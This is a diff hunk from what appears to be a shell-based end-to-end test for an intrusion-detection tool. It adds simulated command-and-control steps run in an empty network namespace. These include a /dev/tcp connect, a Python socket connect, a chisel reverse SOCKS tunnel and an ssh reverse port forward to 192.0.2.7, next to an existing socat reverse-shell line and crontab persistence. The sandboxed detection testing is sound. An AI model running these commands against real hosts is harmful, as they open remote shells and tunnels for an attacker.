@@ -60,6 +60,13 @@ run unshare -n sh rshells.sh
 fake socat
 run "$d/socat" "tcp-connect:127.0.0.1:4444" "exec:/bin/sh,pty,stderr # e2e-$t"
 
+say "command and control in an empty network namespace (connects fail: no route)"
+run unshare -n bash -c "echo > /dev/tcp/192.0.2.7/4444 # e2e-$t"
+run unshare -n "$py" -c "import socket; socket.socket().connect(('192.0.2.7', 4444))  # e2e-$t"
+fake chisel
+run "$d/chisel" client 192.0.2.7:8000 R:socks "e2e-$t"
+run unshare -n ssh -o BatchMode=yes -o ConnectTimeout=1 -N -R 2222:localhost:22 "e2e-$t@192.0.2.7"
+
 say "persistence in a private mount namespace"
 fake crontab
 run "$d/crontab" "$d/e2e-$t.cron"
